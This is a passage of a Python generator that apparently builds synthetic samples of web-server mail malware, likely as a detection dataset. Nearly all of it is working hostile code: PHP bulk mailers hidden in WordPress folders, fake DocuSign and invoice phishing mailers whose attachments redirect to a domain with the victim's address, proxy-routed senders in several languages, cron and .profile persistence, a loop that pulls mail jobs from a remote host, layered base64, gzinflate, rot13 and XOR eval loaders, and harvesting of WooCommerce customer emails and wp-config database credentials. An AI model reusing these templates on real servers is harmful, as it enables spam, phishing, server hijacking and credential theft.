        'X-Originating-IP' => '[' . rand(1, 223) . '.' . rand(0, 255) . '.' . rand(0, 255) . '.' . rand(1, 254) . ']',
        'Content-Type' => 'text/html; charset=utf-8',
    );
    mail($to, $_POST['subject'], $_POST['letter'], $hdr);
}
""")
        return [F(code, d + "/wp-content/uploads/" + webname(r), "php", "uploads")]
    code = T("""<?php
$pool = json_decode(file_get_contents(__DIR__ . '/.names.json'), true);
$rcpts = file(__DIR__ . '/.rc', FILE_IGNORE_NEW_LINES);
shuffle($rcpts);
foreach ($rcpts as $i => $rc) {
    $who = $pool[$i % count($pool)];
    $dom = explode('@', $rc)[1];
    $headers = "From: =?UTF-8?B?" . base64_encode($who) . "?= <no-reply@$dom>\\r\\n" .
        "Message-ID: <" . sprintf('%08x', crc32($rc . microtime())) . '.' . time() . "@$dom>\\r\\n" .
        "Return-Path: <no-reply@$dom>\\r\\nContent-Type: text/plain; charset=utf-8\\r\\n";
    mail($rc, 'Re: ' . $who, "Hello,\\nsee https://@D@/r/" . $i, $headers);
}
""", D=dom(r))
    names = '["Support Team", "Billing Department", "IT Helpdesk", "Security Notice", "Account Manager"]\n'
    return [F(code, d + "/" + webname(r), "php", "plain"), F(names, d + "/.names.json", "json", "config"), listfile(r, d + "/.rc")]


def attachment_builder(r, v):
    d = docroot(r)
    if v == 0:
        code = T("""<?php
$list = file(__DIR__ . '/@L@', FILE_IGNORE_NEW_LINES);
$file = file_get_contents(__DIR__ . '/@A@');
foreach ($list as $to) {
    $bnd = '==b' . md5(microtime());
    $h = "From: Accounts <accounts@" . $_SERVER['HTTP_HOST'] . ">\\r\\nMIME-Version: 1.0\\r\\nContent-Type: multipart/mixed; boundary=\\"$bnd\\"\\r\\n";
    $m = "--$bnd\\r\\nContent-Type: text/plain; charset=utf-8\\r\\n\\r\\nPlease find the invoice attached.\\r\\n";
    $m .= "--$bnd\\r\\nContent-Type: application/zip; name=\\"Invoice_" . rand(1000, 9999) . ".zip\\"\\r\\nContent-Transfer-Encoding: base64\\r\\nContent-Disposition: attachment\\r\\n\\r\\n";
    $m .= chunk_split(base64_encode($file)) . "--$bnd--";
    mail($to, 'Outstanding invoice', $m, $h);
}
""", L=rw(r, 4) + ".txt", A=rw(r, 5) + ".bin")
        ln = code.split("__DIR__ . '/")[1].split("'")[0]
        an = code.split("__DIR__ . '/")[2].split("'")[0]
        return [F(code, d + "/" + webname(r), "php", "plain"), listfile(r, d + "/" + ln),
                F(b"PK\x03\x04\x14\x00\x00\x00\x00\x00" + bytes(r.randint(0, 255) for _ in range(40)), d + "/" + an, "binary", "attachment")]
    if v == 1:
        code = T("""<?php
function @F@($to, $subject, $html, $fname, $data, $from) {
    $b1 = uniqid('mix'); $b2 = uniqid('alt');
    $head = implode("\\n", array("From: $from", 'MIME-Version: 1.0', "Content-Type: multipart/mixed; boundary=$b1"));
    $txt = strip_tags($html);
    $msg = "--$b1\\nContent-Type: multipart/alternative; boundary=$b2\\n\\n--$b2\\nContent-Type: text/plain\\n\\n$txt\\n--$b2\\nContent-Type: text/html\\n\\n$html\\n--$b2--\\n";
    $msg .= "--$b1\\nContent-Type: text/html; name=\\"$fname\\"\\nContent-Transfer-Encoding: base64\\nContent-Disposition: attachment; filename=\\"$fname\\"\\n\\n" . chunk_split(base64_encode($data), 76, "\\n") . "--$b1--";
    return mail($to, $subject, $msg, $head);
}
foreach ($_POST['to'] as $t) {
    $att = str_replace('%%EMAIL%%', $t, base64_decode($_POST['att']));
    @F@($t, $_POST['s'], $_POST['h'], 'Document_' . date('dmY') . '.html', $att, $_POST['f']);
}
""", F=rw(r, 6))
        return [F(code, d + "/wp-includes/" + webname(r), "php", "plain")]
    code = T("""<?php
require __DIR__ . '/vendor/autoload.php';
$smtp = explode('|', trim(file(__DIR__ . '/smtp.txt')[array_rand(file(__DIR__ . '/smtp.txt'))]));
foreach (file(__DIR__ . '/to.txt', FILE_IGNORE_NEW_LINES) as $to) {
    $m = new PHPMailer\\PHPMailer\\PHPMailer();
    $m->isSMTP(); $m->Host = $smtp[0]; $m->Port = $smtp[1]; $m->SMTPAuth = true; $m->Username = $smtp[2]; $m->Password = $smtp[3];
    $m->setFrom($smtp[2], 'DocuSign');
    $m->addAddress($to);
    $m->Subject = 'Completed: Please review the document';
    $m->msgHTML(file_get_contents(__DIR__ . '/letter.html'));
    $m->addStringAttachment(str_replace('{email}', $to, file_get_contents(__DIR__ . '/att.htm')), 'Review_' . rand(100, 999) . '.htm');
    $m->send();
}
""")
    sm = "".join("%s|587|%s@%s|%s\n" % (r.choice(("smtp.example.com", "mail.example.net", "203.0.113.25")), rw(r, 5), dom(r), rw(r, 10)) for _ in range(3))
    base = d + "/" + rw(r, 6)
    return [F(code, base + "/" + webname(r), "php", "plain"), F(sm, base + "/smtp.txt", "text", "smtp-creds"), listfile(r, base + "/to.txt"),
            F(letter(r, "brace"), base + "/letter.html", "html", "letter"),
            F("<html><body><script>location='https://%s/d/?e={email}'</script></body></html>\n" % dom(r), base + "/att.htm", "html", "attachment")]


def tester_then_list(r, v):
    d = docroot(r)
    if v == 0:
        code = T("""<?php
if (!isset($_POST['go'])) { ?>
<form method="post"><input name="test" placeholder="test address"><br>
<input name="from" value="support@<?php echo $_SERVER['HTTP_HOST']; ?>"><br><input name="subject"><br>
<textarea name="html" rows="8" cols="80"></textarea><br><textarea name="list" rows="8" cols="40"></textarea><br>
<input type="submit" name="go" value="Test"> <input type="submit" name="go" value="Send all"></form>
<?php exit; }
$h = "From: {$_POST['from']}\\r\\nContent-Type: text/html; charset=utf-8\\r\\n";
if ($_POST['go'] === 'Test') { echo mail($_POST['test'], $_POST['subject'], $_POST['html'], $h) ? 'test delivered' : 'mail() off'; exit; }
$n = 0; foreach (preg_split('/\\r?\\n/', $_POST['list']) as $a) { if (trim($a) && mail(trim($a), $_POST['subject'], $_POST['html'], $h)) $n++; }
echo "$n sent";
""")
        return [F(code, d + "/" + webname(r), "php", "plain")]
    if v == 1:
        code = T("""<?php
@error_reporting(0);
$t = '@TA@';
if (isset($_GET['check'])) { $c = substr(md5(time()), 0, 8); echo mail($t, "check $c " . $_SERVER['HTTP_HOST'], 'ok ' . php_uname(), 'From: root@' . $_SERVER['HTTP_HOST']) ? "sent:$c" : 'fail'; exit; }
if (isset($_POST['l'])) {
    $lines = explode("\\n", $_POST['l']);
    array_unshift($lines, $t);
    foreach ($lines as $x) { mail(trim($x), $_POST['s'], $_POST['m'], "From: " . $_POST['f'] . "\\nContent-Type: text/html"); }
    echo count($lines);
}
""", TA="%s@%s" % (rw(r, 6), r.choice(("example.com", "example.net"))))
        return [F(code, d + "/wp-content/plugins/%s/%s" % (plug(r), webname(r)), "php", "fake-plugin")]
    code = T("""<?php
// checks mail() delivery, then runs the batch
$seed = 'seed@@D@';
$stage = $_REQUEST['stage'] ?? 'probe';
if ($stage === 'probe') {
    $id = bin2hex(random_bytes(4));
    $ok = mail($seed, "ping-$id", gethostname() . ' ' . ($_SERVER['SERVER_ADDR'] ?? '') . ' ' . ini_get('sendmail_path'));
    exit(json_encode(array('id' => $id, 'ok' => $ok, 'disabled' => ini_get('disable_functions'))));
}
if ($stage === 'batch' && isset($_FILES['l'])) {
    $fh = fopen($_FILES['l']['tmp_name'], 'r');
    while (($a = fgets($fh)) !== false) mail(trim($a), $_REQUEST['s'], base64_decode($_REQUEST['b']), base64_decode($_REQUEST['h']));
    fclose($fh);
    echo 'batch done';
}
""", D=dom(r))
    return [F(code, d + "/" + r.choice(("tmp/", "cache/", "")) + webname(r), "php", "plain")]


def python_proxy_sender(r, v):
    c, hd = r.choice((("home-cache", ".cache/" + app(r)), ("tmp-dir", "tmp/." + rw(r, 3)), ("home-local-share", ".local/share/" + app(r))))
    prox = "".join("%s:%d\n" % (ip(r), r.choice((1080, 9050, 3128, 8080))) for _ in range(5))
    if v == 0:
        code = T("""import smtplib, random, sys, time
import socks  # PySocks
from email.mime.text import MIMEText

proxies = [l.strip().split(':') for l in open('@P@') if l.strip()]
smtps = [l.strip().split('|') for l in open('@S@') if l.strip()]
letter = open('@B@').read()
for n, rcpt in enumerate(l.strip() for l in open('@L@')):
    ph, pp = random.choice(proxies)
    socks.set_default_proxy(socks.SOCKS5, ph, int(pp))
    socks.wrapmodule(smtplib)
    host, port, user, pw = random.choice(smtps)
    msg = MIMEText(letter.replace('{{email}}', rcpt), 'html')
    msg['Subject'] = '@SU@'
    msg['From'] = user
    msg['To'] = rcpt
    try:
        s = smtplib.SMTP(host, int(port), timeout=20)
        s.starttls(); s.login(user, pw); s.sendmail(user, [rcpt], msg.as_string()); s.quit()
        print(n, rcpt, 'OK', flush=True)
    except Exception as e:
        print(n, rcpt, 'FAIL', e, file=sys.stderr)
    time.sleep(random.uniform(0.5, 2))
""", P="socks.txt", S="smtp.txt", B="letter.html", L="list.txt", SU=subj(r))
    elif v == 1:
        code = T("""#!/usr/bin/env python3
import socket, ssl, base64, itertools, threading, queue

PROX = itertools.cycle(open('px.lst').read().split())
Q = queue.Queue()
for a in open('mails.lst'):
    Q.put(a.strip())
BODY = open('body.eml').read()

def tunnel(h, p):
    ph, pp = next(PROX).split(':')
    s = socket.create_connection((ph, int(pp)), 15)
    s.sendall(('CONNECT %s:%d HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n' % (h, p, h)).encode())
    if b' 200' not in s.recv(1024):
        raise OSError('proxy')
    return s

def work():
    while not Q.empty():
        to = Q.get()
        try:
            s = tunnel('@MX@', 25)
            f = s.makefile('rb')
            def cmd(c):
                s.sendall(c.encode() + b'\\r\\n'); return f.readline()
            f.readline(); cmd('EHLO mail.example.com'); cmd('MAIL FROM:<info@example.com>'); cmd('RCPT TO:<%s>' % to); cmd('DATA')
            cmd(BODY.replace('%TO%', to) + '\\r\\n.'); cmd('QUIT')
        except Exception:
            Q.put(to)

for _ in range(12):
    threading.Thread(target=work, daemon=True).start()
Q.join()
""", MX="mx." + dom(r))
    else:
        code = T("""# -*- coding: utf-8 -*-
import asyncio, random, json
import aiosmtplib
from email.message import EmailMessage

CFG = json.load(open('conf.json'))

async def one(rcpt, sem):
    async with sem:
        px = random.choice(CFG['proxies'])
        m = EmailMessage()
        m['From'] = random.choice(CFG['froms'])
        m['To'] = rcpt
        m['Subject'] = random.choice(CFG['subjects'])
        m.set_content(CFG['html'].replace('#EMAIL#', rcpt), subtype='html')
        try:
            await aiosmtplib.send(m, hostname=CFG['relay'], port=25, timeout=30, source_address=(px, 0))
            open('good.txt', 'a').write(rcpt + '\\n')
        except Exception:
            open('bad.txt', 'a').write(rcpt + '\\n')

async def main():
    sem = asyncio.Semaphore(CFG.get('threads', 20))
    await asyncio.gather(*(one(l.strip(), sem) for l in open(CFG['list']) if '@' in l))

asyncio.run(main())
""")
        conf = '{"relay": "127.0.0.1", "threads": 25, "list": "leads.txt", "proxies": ["%s", "%s"], "froms": ["service@%s"], "subjects": ["%s"], "html": "<p>Dear #EMAIL#</p>"}\n' % (ip(r), ip(r), dom(r), subj(r))
        return [script(r, "python", code, d=hd, cont=c), F(conf, hd + "/conf.json", "json", "config"), listfile(r, hd + "/leads.txt"),
                crontab_file(r, [cronline(r, "cd $HOME/%s && python3 *.py >/dev/null 2>&1" % hd)])]
    files = [script(r, "python", code, d=hd, cont=c)]
    if v == 0:
        files += [F(prox, hd + "/socks.txt", "text", "config"), F("smtp.example.net|587|%s@example.net|%s\n" % (rw(r, 5), rw(r, 9)), hd + "/smtp.txt", "text", "smtp-creds"),
                  F(letter(r, "brace"), hd + "/letter.html", "html", "letter"), listfile(r, hd + "/list.txt")]
    else:
        files += [F(prox, hd + "/px.lst", "text", "config"), listfile(r, hd + "/mails.lst"),
                  F("Subject: %s\r\nFrom: info@example.com\r\nTo: %%TO%%\r\n\r\nHello\r\n" % subj(r), hd + "/body.eml", "eml", "letter")]
    return files


def perl_proxy_sender(r, v):
    c, hd = r.choice((("home-cache", ".cache/" + app(r)), ("tmp-dir", "tmp/." + rw(r, 3)), ("var-tmp", "var/tmp/." + rw(r, 4))))
    if v == 0:
        code = T("""use strict;
use warnings;
use IO::Socket::INET;

my @px = do { open my $f, '<', 'proxy.txt' or die; map { chomp; $_ } <$f> };
my $letter = do { local $/; open my $f, '<', 'msg.txt' or die; <$f> };
open my $L, '<', 'rcpt.txt' or die;
while (my $to = <$L>) {
    chomp $to;
    my ($ph, $pp) = split /:/, $px[rand @px];
    require IO::Socket::Socks;
    my $s = IO::Socket::Socks->new(ProxyAddr => $ph, ProxyPort => $pp, ConnectAddr => '@MX@', ConnectPort => 25, Timeout => 20) or next;
    <$s>;
    for my $c ("HELO @HE@", "MAIL FROM:<@FR@>", "RCPT TO:<$to>", "DATA") { print $s "$c\\r\\n"; <$s>; }
    (my $b = $letter) =~ s/\\[EMAIL\\]/$to/g;
    print $s "To: $to\\r\\n$b\\r\\n.\\r\\nQUIT\\r\\n";
    close $s;
}
""", MX="mx." + dom(r), HE=dom(r), FR="notice\\@" + dom(r))
        files = [script(r, "perl", code, d=hd, cont=c), F("".join("%s:1080\n" % ip(r) for _ in range(4)), hd + "/proxy.txt", "text", "config"),
                 F("Subject: %s\r\nFrom: notice@example.org\r\n\r\nDear [EMAIL], please review.\r\n" % subj(r), hd + "/msg.txt", "eml", "letter"),
                 listfile(r, hd + "/rcpt.txt")]
        return files
    if v == 1:
        code = T("""#!/usr/bin/perl
use strict;
use Net::SMTP;
use POSIX ":sys_wait_h";

my ($list, $tpl, $kids) = ('/tmp/.@X@/l', '/tmp/.@X@/t', 0);
my @smtp = map { chomp; [split /\\|/] } `cat /tmp/.@X@/s`;
open(my $fh, '<', $list) or die;
my @rc = <$fh>;
my $body = `cat $tpl`;
for my $i (0 .. $#rc) {
    my $to = $rc[$i]; chomp $to;
    if (fork() == 0) {
        my $acc = $smtp[$i % @smtp];
        my $m = Net::SMTP->new($acc->[0], Port => $acc->[1], Timeout => 15) or exit;
        $m->auth($acc->[2], $acc->[3]);
        $m->mail($acc->[2]); $m->to($to); $m->data("Subject: @SU@\\nFrom: $acc->[2]\\nContent-Type: text/html\\n\\n$body"); $m->quit;
        exit 0;
    }
    $kids++;
    if ($kids >= 15) { wait(); $kids--; }
}
1 while waitpid(-1, WNOHANG) > 0;
""", X=rw(r, 4), SU=subj(r))
        x = code.split("/tmp/.")[1].split("/")[0]
        return [script(r, "perl", code, d=hd, cont=c), F("smtp.example.com|587|%s@example.com|%s\n" % (rw(r, 5), rw(r, 8)), "tmp/.%s/s" % x, "text", "smtp-creds"),
                listfile(r, "tmp/.%s/l" % x), F(letter(r, "brace"), "tmp/.%s/t" % x, "html", "letter")]
    code = T("""#!/usr/bin/perl
$|=1;
require LWP::UserAgent;
my $ua = LWP::UserAgent->new(timeout => 20);
my @p = split /\\s+/, `cat $ENV{HOME}/.@X@/hp`;
my $job = $ua->get('http://@H@/job?id=' . `hostname`)->decoded_content;
my ($subj, $from, $html, @to) = split /\\n/, $job;
foreach my $t (@to) {
    my $pr = $p[int rand @p];
    $ua->proxy(['http', 'https'], "http://$pr");
    open(my $sm, '|-', '/usr/sbin/sendmail', '-t', '-oi') or next;
    print $sm "To: $t\\nFrom: $from\\nSubject: $subj\\nContent-Type: text/html\\n\\n$html\\n";
    close $sm;
    $ua->get("http://@H@/ack?e=$t");
}
""", X=rw(r, 4), H=host(r))
    x = code.split("/.")[1].split("/")[0]
    return [script(r, "perl", code, d=hd, cont=c), F(" ".join("%s:3128" % ip(r) for _ in range(4)) + "\n", ".%s/hp" % x, "text", "config"),
            crontab_file(r, [cronline(r, "perl $HOME/%s/*.pl >/dev/null 2>&1" % hd, "*/15 * * * *")])]


def shell_spool_drain(r, v):
    c, hd = r.choice((("tmp-dir", "tmp/." + rw(r, 4)), ("shm-dir", "dev/shm/." + rw(r, 3)), ("home-cache", ".cache/" + app(r))))
    if v == 0:
        code = T("""#!/bin/bash
cd "$(dirname "$0")" || exit
Q=./q
mkdir -p "$Q/done"
ls "$Q"/*.eml 2>/dev/null | xargs -P 20 -I{} sh -c '/usr/sbin/sendmail -t -oi < "{}" && mv "{}" @Q@/done/'
echo "$(date +%s) $(ls $Q/done | wc -l)" >> .stat
""", Q="./q")
        return [script(r, "bash", code, d=hd, cont=c, ext="sh"), F("To: %s\nFrom: Service <info@example.com>\nSubject: %s\n\nConfirm at https://%s/c\n" % (addrs(r, 1)[0], subj(r), dom(r)), hd + "/q/%s.eml" % hx(r, 12), "eml", "spool"),
                crontab_file(r, [cronline(r, "/bin/bash $HOME/%s/*.sh >/dev/null 2>&1" % hd, "* * * * *")])]
    if v == 1:
        code = T("""#!/bin/sh
# drain
L=${1:-$HOME/.@X@/r.txt}
S="@SU@"
B=$HOME/.@X@/b.html
cat "$L" | parallel -j 16 --timeout 30 "( printf 'To: %s\\nSubject: %s\\nFrom: Support <help@@D@>\\nContent-Type: text/html\\n\\n' {} \\"$S\\"; sed 's/%%MAIL%%/{}/g' $B ) | /usr/sbin/sendmail -t" >> $HOME/.@X@/log 2>&1
""", X=rw(r, 4), SU=subj(r), D=dom(r))
        x = code.split("$HOME/.")[1].split("/")[0]
        return [script(r, "sh", code, d=hd, cont=c), listfile(r, ".%s/r.txt" % x), F(letter(r, "pct").replace("%NAME%", "%%MAIL%%"), ".%s/b.html" % x, "html", "letter")]
    if v == 2:
        code = T("""#!/bin/bash
while read -r to; do
  [ -z "$to" ] && continue
  echo "$to"
done < list | xargs -n1 -P12 -I@@ curl -s --url 'smtp://127.0.0.1:25' --mail-from 'notice@@D@' --mail-rcpt @@ --upload-file msg.eml
""", D=dom(r))
        return [script(r, "bash", code, d=hd, cont=c), listfile(r, hd + "/list"),
                F("From: notice@%s\r\nSubject: %s\r\n\r\nHello\r\n" % (dom(r), subj(r)), hd + "/msg.eml", "eml", "letter")]
    code = T("""#!/bin/sh
SP=/var/tmp/.@X@
for f in $SP/*.msg; do
  [ -f "$f" ] || break
  rc=$(head -1 "$f" | cut -d: -f2)
  tail -n +2 "$f" | exim -odf -f bounce@@D@ $rc &
  [ $(jobs -r | wc -l) -ge 10 ] && wait
  rm -f "$f"
done
wait
""", X=rw(r, 4), D=dom(r))
    x = code.split("/var/tmp/.")[1].split("\n")[0]
    return [script(r, "sh", code, d=hd, cont=c), F("RCPT:%s\nSubject: %s\nFrom: x@example.net\n\nbody\n" % (addrs(r, 1)[0], subj(r)), "var/tmp/.%s/%s.msg" % (x, hx(r, 10)), "eml", "spool")]


def node_sender(r, v):
    c, hd = r.choice((("home-local-share", ".local/share/" + app(r)), ("home-cache", ".cache/" + app(r)), ("home", "")))
    if v == 0:
        code = T("""const { spawn } = require('child_process');
const fs = require('fs');
const list = fs.readFileSync(__dirname + '/r.txt', 'utf8').split(/\\r?\\n/).filter(Boolean);
const tpl = fs.readFileSync(__dirname + '/t.html', 'utf8');
let i = 0;
function next() {
  if (i >= list.length) return;
  const to = list[i++];
  const sm = spawn('/usr/sbin/sendmail', ['-t', '-i']);
  sm.stdin.end(`To: ${to}\\nFrom: "Billing" <billing@@D@>\\nSubject: @SU@\\nContent-Type: text/html\\n\\n${tpl.replace(/\\{\\{email\\}\\}/g, to)}\\n`);
  sm.on('close', () => setTimeout(next, 150));
}
for (let k = 0; k < 8; k++) next();
""", D=dom(r), SU=subj(r))
        return [script(r, "js", code, d=hd, cont=c, ext="js"), listfile(r, (hd + "/" if hd else "") + "r.txt"), F(letter(r, "brace"), (hd + "/" if hd else "") + "t.html", "html", "letter")]
    if v == 1:
        code = T("""const net = require('net');
const fs = require('fs');
const rc = fs.readFileSync(process.argv[2] || 'emails.txt', 'utf8').trim().split('\\n');
const html = Buffer.from(process.env.BODY_B64 || '', 'base64').toString();
const send = (to) => new Promise((res) => {
  const s = net.connect(25, '127.0.0.1');
  const steps = ['EHLO localhost', 'MAIL FROM:<service@@D@>', `RCPT TO:<${to}>`, 'DATA',
    `Subject: @SU@\\r\\nTo: ${to}\\r\\nContent-Type: text/html\\r\\n\\r\\n${html}\\r\\n.`, 'QUIT'];
  s.on('data', () => { const c = steps.shift(); if (c) s.write(c + '\\r\\n'); else s.end(); });
  s.on('close', res); s.on('error', res);
});
(async () => { for (const to of rc) { await send(to.trim()); } })();
""", D=dom(r), SU=subj(r))
        return [script(r, "js", code, d=hd, cont=c, ext="js"), listfile(r, (hd + "/" if hd else "") + "emails.txt"),
                crontab_file(r, [cronline(r, "BODY_B64=%s node $HOME/%s >/dev/null 2>&1" % (b64("<p>verify</p>"), (hd + "/" if hd else "") + "*.js"), "@reboot")])]
    code = T("""'use strict';
const nodemailer = require('nodemailer');
const cfg = require('./settings.json');
const tx = nodemailer.createTransport({ sendmail: true, newline: 'unix', path: '/usr/sbin/sendmail' });
const leads = require('fs').readFileSync(cfg.leads, 'utf8').split('\\n').filter((l) => l.includes('@'));
leads.reduce((p, to, n) => p.then(() => tx.sendMail({
  from: `${cfg.names[n % cfg.names.length]} <${cfg.from}>`,
  to, subject: cfg.subject, html: cfg.html.split('[EMAIL]').join(to),
}).catch(() => null)), Promise.resolve()).then(() => console.log('finished', leads.length));
""")
    conf = '{"leads": "leads.txt", "from": "info@%s", "names": ["Support", "Billing"], "subject": "%s", "html": "<p>[EMAIL]</p>"}\n' % (dom(r), subj(r))
    p = hd + "/" if hd else ""
    return [script(r, "js", code, d=hd, cont=c, ext="js"), F(conf, p + "settings.json", "json", "config"), listfile(r, p + "leads.txt")]


def ruby_sender(r, v):
    c, hd = r.choice((("home-local-share", ".local/share/" + app(r)), ("home-cache", ".cache/" + app(r)), ("tmp-dir", "tmp/." + rw(r, 4))))
    p = hd + "/"
    if v == 0:
        code = T("""require 'net/smtp'
accts = File.readlines('@P@smtp.lst', chomp: true).map { |l| l.split(':') }
body = File.read('@P@msg.html')
File.foreach('@P@to.lst') do |to|
  to.strip!
  next if to.empty?
  host, port, user, pass = accts.sample
  msg = "From: #{user}\\r\\nTo: #{to}\\r\\nSubject: @SU@\\r\\nContent-Type: text/html\\r\\n\\r\\n#{body.gsub('{{email}}', to)}"
  begin
    Net::SMTP.start(host, port.to_i, 'localhost', user, pass, :login) { |s| s.send_message(msg, user, to) }
  rescue StandardError
    next
  end
end
""", P="", SU=subj(r))
        return [script(r, "ruby", code, d=hd, cont=c), F("smtp.example.net:587:%s@example.net:%s\n" % (rw(r, 5), rw(r, 8)), p + "smtp.lst", "text", "smtp-creds"),
                F(letter(r, "brace"), p + "msg.html", "html", "letter"), listfile(r, p + "to.lst")]
    if v == 1:
        code = T("""list = ARGV[0] ? File.read(ARGV[0]).split : STDIN.read.split
tpl = File.read(File.join(__dir__, 'letter.txt'))
list.each_slice(20) do |batch|
  batch.map do |to|
    Thread.new do
      IO.popen(['/usr/sbin/sendmail', '-t', '-oi'], 'w') do |io|
        io.puts "To: #{to}", "From: Accounts <acc@@D@>", "Subject: @SU@", '', tpl.sub('%USER%', to.split('@').first)
      end
    end
  end.each(&:join)
  sleep 1
end
""", D=dom(r), SU=subj(r))
        return [script(r, "ruby", code, d=hd, cont=c), F("Dear %USER%,\nyour account needs attention: https://example.net/a\n", p + "letter.txt", "text", "letter")]
    code = T("""require 'socket'
require 'json'
job = JSON.parse(File.read(File.expand_path('~/.config/@X@.json')))
job['to'].each do |rc|
  s = TCPSocket.new('127.0.0.1', 25)
  s.gets
  ["EHLO #{Socket.gethostname}", "MAIL FROM:<#{job['from']}>", "RCPT TO:<#{rc}>", 'DATA'].each { |c| s.write(c + "\\r\\n"); s.gets }
  s.write("Subject: #{job['subject']}\\r\\n\\r\\n#{job['body']}\\r\\n.\\r\\nQUIT\\r\\n")
  s.close
end
""", X=rw(r, 5))
    x = code.split("~/.config/")[1].split(".json")[0]
    jd = '{"from": "info@%s", "subject": "%s", "body": "hello", "to": %s}\n' % (dom(r), subj(r), str(addrs(r, 4)).replace("'", '"'))
    return [script(r, "ruby", code, d=hd, cont=c), F(jd, ".config/%s.json" % x, "json", "config")]


def php_cli_cache(r, v):
    a = app(r)
    d = r.choice((".cache/" + a, ".cache", ".local/share/" + a))
    n = r.choice(("php-fpm", "update", "sess_" + hx(r, 8), "." + rw(r, 4), "composer-" + rw(r, 3)))
    if v == 0:
        code = T("""<?php
if (PHP_SAPI !== 'cli') exit;
$dir = __DIR__;
$st = json_decode(@file_get_contents("$dir/.st"), true) ?: array('off' => 0);
$list = file("$dir/.l", FILE_IGNORE_NEW_LINES);
$msg = file_get_contents("$dir/.m");
for ($i = $st['off'], $e = min(count($list), $st['off'] + 300); $i < $e; $i++) {
    mail($list[$i], '@SU@', $msg, "From: Service <no-reply@@D@>\\r\\nContent-Type: text/html");
}
file_put_contents("$dir/.st", json_encode(array('off' => $i)));
file_put_contents("$dir/.log", date('c') . " $i/" . count($list) . "\\n", FILE_APPEND);
""", SU=subj(r), D=dom(r))
        ext = r.choice(("php", "", "dat"))
        rel = "%s/%s%s" % (d, n, "." + ext if ext else "")
        return [crontab_file(r, [cronline(r, "/usr/local/bin/php -q $HOME/%s >/dev/null 2>&1" % rel, "*/3 * * * *")]),
                F(code, rel, "php", "home-cache"), listfile(r, d + "/.l"), F(letter(r, "brace"), d + "/.m", "html", "letter"),
                F("2025-02-01T01:03:00+00:00 300/5000\n2025-02-01T01:06:00+00:00 600/5000\n", d + "/.log", "log", "log")]
    if v == 1:
        code = T("""#!/usr/bin/php
<?php
set_time_limit(0);
declare(ticks=1);
pcntl_signal(SIGTERM, function () {});
while (true) {
    $job = @file_get_contents('http://@H@/next.php?h=' . gethostname());
    if (!$job) { sleep(300); continue; }
    list($to, $s, $b, $h) = explode("\\0", gzinflate(base64_decode($job)));
    foreach (explode(',', $to) as $t) { @mail($t, $s, $b, $h); }
    sleep(5);
}
""", H=host(r))
        rel = "%s/%s" % (d, n)
        return [F(code, rel, "php", "home-cache"),
                F(T("# keep alive\nif ! pgrep -f @N@ >/dev/null; then nohup php $HOME/@R@ >/dev/null 2>&1 & fi\n", N=n.lstrip("."), R=rel), ".profile", "sh", "dotfile")]
    code = T("""<?php
$cfg = array('list' => getenv('HOME') . '/.local/share/@X@/l.gz', 'tpl' => getenv('HOME') . '/.local/share/@X@/t', 'per' => 120);
$list = gzfile($cfg['list']);
$tpl = file_get_contents($cfg['tpl']);
$state = getenv('HOME') . '/.local/share/@X@/p';
$p = (int) @file_get_contents($state);
foreach (array_slice($list, $p, $cfg['per']) as $row) {
    $to = trim($row);
    mb_send_mail($to, '@SU@', str_replace('#EMAIL#', $to, $tpl), "From: info@@D@\\r\\nContent-Type: text/html; charset=UTF-8");
    $p++;
}
file_put_contents($state, $p);
""", X=rw(r, 5), SU=subj(r), D=dom(r))
    x = code.split(".local/share/")[1].split("/")[0]
    rel = "%s/%s.php" % (d, n)
    return [F(code, rel, "php", "home-cache"), F(letter(r, "pct").replace("%NAME%", "#EMAIL#"), ".local/share/%s/t" % x, "html", "letter"),
            crontab_file(r, [cronline(r, "php %s/%s" % ("/home/" + rw(r, 6), rel), "*/20 * * * *")])]


def layered_obfuscation(r, v):
    d = docroot(r)
    inner = T("""$l = explode("\\n", $_POST['l']);
foreach ($l as $t) { if (trim($t)) mail(trim($t), $_POST['s'], $_POST['b'], 'From: ' . $_POST['f'] . "\\r\\nContent-Type: text/html"); }
echo 'ok ' . count($l);""")
    if v == 0:
        # base64 -> gzinflate -> str_rot13 -> eval
        blob = b64(gzraw(rot13(inner)))
        code = T("<?php\n$@A@ = '@B@';\neval(str_rot13(gzinflate(base64_decode($@A@))));\n", A=rw(r, 3), B=blob)
    elif v == 1:
        # strrev(base64(hex))
        import binascii
        h = binascii.hexlify(inner.encode()).decode()
        blob = b64(h)[::-1]
        code = T("<?php\n$@F@ = 'cr' . 'eate_function';\n$x = hex2bin(base64_decode(strrev('@B@')));\neval($x);\n", F=rw(r, 2), B=blob)
    elif v == 2:
        # layered: base64 of (gzinflate(base64)) wrapped twice
        lay1 = "eval(gzinflate(base64_decode('%s')));" % b64(gzraw(inner))
        lay2 = "eval(base64_decode('%s'));" % b64(lay1)
        code = T("<?php /* @C@ */ $@A@=\"\\x62\\x61\\x73\\x65\\x36\\x34\\x5f\\x64\\x65\\x63\\x6f\\x64\\x65\"; eval($@A@('@B@'));\n",
                 A=rw(r, 4), B=b64(lay2), C=hx(r, 32))
    else:
        # xor with a key, then base64
        key = rw(r, 7)
        x = bytes(ord(ch) ^ ord(key[i % len(key)]) for i, ch in enumerate(inner))
        code = T("""<?php
function @F@($d, $k) { $o = ''; for ($i = 0; $i < strlen($d); $i++) $o .= $d[$i] ^ $k[$i % strlen($k)]; return $o; }
$p = @F@(base64_decode(str_rot13('@B@')), '@K@');
@eval($p);
""", F=rw(r, 5), B=rot13(b64(x)), K=key)
    return [F(code, "%s/%s%s" % (d, r.choice(("", "wp-includes/", "wp-content/uploads/2022/07/", "wp-content/plugins/%s/" % plug(r))), webname(r)), "php", "plain")]


def woo_orders_harvest(r, v):
    d = docroot(r)
    if v == 0:
        code = T("""<?php
require __DIR__ . '/wp-load.php';
global $wpdb;
$rows = $wpdb->get_col("SELECT DISTINCT meta_value FROM {$wpdb->postmeta} WHERE meta_key = '_billing_email' LIMIT 5000");
$body = get_option('_@X@_b');
foreach ($rows as $em) {
    wp_mail($em, 'Your recent order needs confirmation', str_replace('{{email}}', $em, $body), array('Content-Type: text/html'));
}
echo count($rows);
""", X=rw(r, 4))
        return [F(code, "%s/%s" % (d, webname(r)), "php", "plain")]
    if v == 1:
        code = T("""<?php
$c = file_get_contents(dirname(__FILE__) . '/../../../wp-config.php');
preg_match_all("/define\\(\\s*'(DB_NAME|DB_USER|DB_PASSWORD|DB_HOST)'\\s*,\\s*'([^']*)'/", $c, $m);
$k = array_combine($m[1], $m[2]);
preg_match("/table_prefix\\s*=\\s*'([^']+)'/", $c, $tp);
